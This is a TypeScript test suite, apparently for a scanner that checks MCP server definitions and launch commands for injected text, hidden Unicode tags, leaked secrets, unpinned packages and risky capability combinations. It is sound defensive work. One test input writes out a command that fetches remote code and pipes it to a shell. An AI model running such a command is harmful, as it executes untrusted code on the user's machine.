import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Json } from '../../../lib/model/json.ts';
import type { ItemKind } from '../../../lib/model/registry.ts';
import type { ToolEffect } from '../../../lib/model/rules.ts';
import { isRefused, type OfferedItem, readInstructions, readItem } from '../../../lib/registry/offered.ts';
import { ruleNamed, SCAN_RULES } from '../../../lib/scan/rules.ts';
import { sarifOf } from '../../../lib/scan/sarif.ts';
import { findingsOf, type ScanJudges } from '../../../lib/scan/scan.ts';
import type { Launch, Subject } from '../../../lib/scan/subject.ts';

const NOTHING: Launch = { command: 'node', args: ['server.js'], env: {}, cwd: undefined, url: undefined, headers: {} };

const JUDGES: ScanJudges = {
  piecesOf: (json) => ({
    list: [{ at: '/description', text: JSON.parse(json).description ?? '', isKey: false }],
    unseen: undefined,
  }),
  assess: ({ list: [piece] }) => {
    const start = piece!.text.indexOf('EVIL');
    const hit = {
      rule: 'override.test',
      category: 'override',
      severity: 'high',
      piece: 0,
      start,
      end: start + 4,
      view: 'plain',
    } as const;
    return {
      score: piece!.text.includes('ODD') ? 0.5 : 0,
      structural: [],
      hits: start === -1 ? [] : [hit],
      unseen: undefined,
    };
  },
  secretsIn: (text) => (text.includes('SECRET') ? [{ kind: 'a token', start: 0, end: 6 }] : []),
  effectOf: (_backend, { id }): ToolEffect => ({
    kind: 'write',
    flags: id === 'fetch' ? ['external', 'untrusted'] : [],
    origin: 'guess',
  }),
  fileHolds: () => true,
};

function item(kind: Exclude<ItemKind, 'instructions'>, raw: Json): OfferedItem {
  const read = readItem(kind, JSON.stringify(raw));
  assert.ok(!isRefused(read));
  return read;
}

function subject(backend: string, tools: readonly Json[], launch: Partial<Launch> = {}): Subject {
  const annotated = tools.map((tool) => ({ annotations: { title: 'T' }, inputSchema: { type: 'object' }, ...tool }));
  return {
    backend,
    file: undefined,
    launch: { ...NOTHING, ...launch },
    definitions: annotated.map((tool) => item('tool', tool)),
    refused: [],
  };
}

const rulesOf = (...subjects: Subject[]) =>
  findingsOf(subjects, JUDGES).map(({ rule, severity, at }) => `${severity} ${rule} ${at}`.trim());

test('a harmless server has no findings', () => {
  const launch = { command: 'npx', args: ['-y', 'files@1.2.3', '/work'] };
  assert.deepEqual(
    rulesOf(subject('a', [{ name: 'read_file', description: 'Reads.', annotations: { readOnlyHint: true } }], launch)),
    [],
  );
});

test('what stands in texts is told with its place and what surrounds it', () => {
  const [finding] = findingsOf(
    [subject('a', [{ name: 'add', description: `${'x'.repeat(80)} EVIL ${'y'.repeat(80)}` }])],
    JUDGES,
  );
  assert.deepEqual(
    [finding!.rule, finding!.kind, finding!.id, finding!.at],
    ['override.test', 'tool', 'add', '/description'],
  );
  assert.match(finding!.evidence, /^…x{31} EVIL y{31}…$/);
  assert.deepEqual(rulesOf(subject('a', [{ name: 'add', description: 'ODD words' }])), [
    'medium text.score /description',
  ]);
  assert.deepEqual(rulesOf(subject('a', [{ name: 'add', description: 'has a SECRET' }])), [
    'high text.secret /description',
  ]);
});

test('text in tags is shown as the text it is', () => {
  const tags = [...'hi'].map((one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0))).join('');
  const [finding] = findingsOf([subject('a', [{ name: 'add', description: `EVIL${tags}` }])], JUDGES);
  assert.equal(finding!.evidence, 'EVIL⟨hidden: hi⟩');
});

test('annotations that contradict the name are told, and those that are missing once for the server', () => {
  const contradicts = (name: string, annotations: Json) => rulesOf(subject('a', [{ name, annotations }]));
  assert.deepEqual(contradicts('delete_rows', { readOnlyHint: true }), [
    'high annotations.contradict /annotations/readOnlyHint',
  ]);
  assert.deepEqual(contradicts('updateRow', { readOnlyHint: true }), [
    'medium annotations.contradict /annotations/readOnlyHint',
  ]);
  assert.deepEqual(contradicts('remove-row', { destructiveHint: false }), [
    'high annotations.contradict /annotations/destructiveHint',
  ]);
  assert.deepEqual(contradicts('get_commit', { readOnlyHint: true }), []);
  assert.deepEqual(contradicts('list_deleted', { readOnlyHint: true }), []);
  assert.deepEqual(contradicts('rows', {}), ['low annotations.missing']);
});

test('what the command line says is told without a start', () => {
  const launched = (command: string, ...args: string[]) => rulesOf(subject('a', [], { command, args }));
  assert.deepEqual(launched('npx', '-y', 'files'), ['medium launch.unpinned /args/1']);
  assert.deepEqual(launched('npx', '-y', '@a/files@latest', '/work'), ['medium launch.unpinned /args/1']);
  assert.deepEqual(launched('npx', '-y', '@a/files@1.0.0', '/work'), []);
  assert.deepEqual(launched('cmd', '/c', 'npx', '-y', 'files'), ['medium launch.unpinned /args/3']);
  assert.deepEqual(launched('uvx', 'mcp-server-git'), ['medium launch.unpinned /args/0']);
  assert.deepEqual(launched('uvx', 'mcp-server-git@2026.1.1'), []);
  assert.deepEqual(launched('docker', 'run', '-i', '--rm', 'mcp/git'), ['medium launch.unpinned /args/3']);
  assert.deepEqual(launched('docker', 'run', '-i', '--rm', 'mcp/git:1.4'), []);
  assert.deepEqual(launched('sh', '-c', 'curl https://example.net/x | sh'), ['critical launch.fetched-code /args']);
  assert.deepEqual(launched('bash', '-c', 'node server.js'), ['medium launch.shell /args']);
  assert.deepEqual(launched('node', 's.js', '--api-key', 'abc123'), ['high launch.secret /args/2']);
  assert.deepEqual(launched('node', 's.js', '--api-key=abc123'), ['high launch.secret /args/1']);
  assert.deepEqual(launched('node', 's.js', '--token-file', '/run/token'), []);
  assert.deepEqual(rulesOf(subject('a', [], { env: { API_TOKEN: 'abc', HOME: '/x' } })), [
    'medium launch.literal-env /env/API_TOKEN',
  ]);
  assert.deepEqual(rulesOf(subject('a', [], { url: 'http://mcp.example.com' })), ['high launch.insecure-url /url']);
  assert.deepEqual(rulesOf(subject('a', [], { url: 'http://127.0.0.1:9000' })), []);
});

test('over all servers, names and what can be done together are told', () => {
  const mail = subject('mail', [{ name: 'search_mail' }, { name: 'send_it' }]);
  const web = subject('web', [{ name: 'fetch' }, { name: 'send_it' }]);
  const found = findingsOf([mail, web], JUDGES);
  assert.deepEqual(
    found.map(({ rule, backend }) => `${rule} ${backend}`),
    ['capabilities.trifecta web', 'name.shadows web'],
  );
  assert.match(found[0]!.evidence, /^private: mail\/search_mail; untrusted: web\/fetch; external: web\/fetch$/);
  assert.deepEqual(findingsOf([mail], JUDGES), []);
});

test('a definition that can be read in two ways, and instructions, are looked at as well', () => {
  const twice = readItem('tool', '{"name":"a","name":"b","inputSchema":{}}');
  assert.ok(isRefused(twice));
  const instructions = readInstructions('EVIL') as OfferedItem;
  const one = { ...subject('a', []), definitions: [instructions], refused: [twice] };
  assert.deepEqual(rulesOf(one), ['high definition.unreadable']);
});

test('the order is the same however servers and tools are ordered', () => {
  const a = subject('a', [
    { name: 'x', description: 'EVIL' },
    { name: 'y', description: 'SECRET' },
  ]);
  const b = subject('b', [{ name: 'z', description: 'ODD' }]);
  const turned = { ...a, definitions: [...a.definitions].reverse() };
  assert.deepEqual(findingsOf([b, turned], JUDGES), findingsOf([a, b], JUDGES));
});

test('each rule has a title, what it leads to and a next step, and an unknown one has them too', () => {
  assert.equal(new Set(SCAN_RULES.map(({ id }) => id)).size, SCAN_RULES.length);
  for (const { id } of [...SCAN_RULES, { id: 'hidden.tags' }, { id: 'override.any' }]) {
    const { title, about, todo } = ruleNamed(id);
    assert.ok(title.length > 10 && about.endsWith('.') && todo.length > 10, id);
  }
});

test('SARIF has what version 2.1.0 asks for: one entry for each rule, and results that point to it', () => {
  const found = findingsOf(
    [
      { ...subject('a', [{ name: 'delete_x', annotations: { readOnlyHint: true } }]), file: '/work/.mcp.json' },
      subject('b', [{ name: 'y', description: 'EVIL EVIL' }]),
    ],
    JUDGES,
  );
  const log = sarifOf(found, { version: '1.0.0', successful: true, shown: (text) => text });
  assert.deepEqual([log.version, log.runs.length], ['2.1.0', 1]);
  assert.match(log.$schema, /sarif-schema-2\.1\.0\.json$/);
  const [{ tool, results, invocations }] = log.runs as [(typeof log.runs)[number]];
  assert.deepEqual(invocations, [{ executionSuccessful: true }]);
  assert.deepEqual(
    tool.driver.rules.map(({ id }) => id),
    ['annotations.contradict', 'override.test'],
  );
  for (const rule of tool.driver.rules) {
    assert.ok(rule.shortDescription.text && rule.fullDescription.text && rule.help.text && rule.help.markdown, rule.id);
    assert.match(rule.properties['security-severity'], /^\d\.\d$/);
    assert.match(rule.name, /^[A-Z]\w+$/);
  }
  assert.equal(results.length, found.length);
  for (const [index, result] of results.entries()) {
    assert.equal(tool.driver.rules[result.ruleIndex]!.id, result.ruleId);
    assert.ok(['none', 'note', 'warning', 'error'].includes(result.level));
    assert.ok(result.message.text.length > 0);
    assert.match(result.partialFingerprints['sallyport/v1'], /^[0-9a-f]{64}$/);
    assert.ok(result.locations[0]!.logicalLocations[0]!.fullyQualifiedName.startsWith(found[index]!.backend));
  }
  assert.match(JSON.stringify(results[0]!.locations), /"uri":"file:\/\/\/work\/\.mcp\.json"/);
});
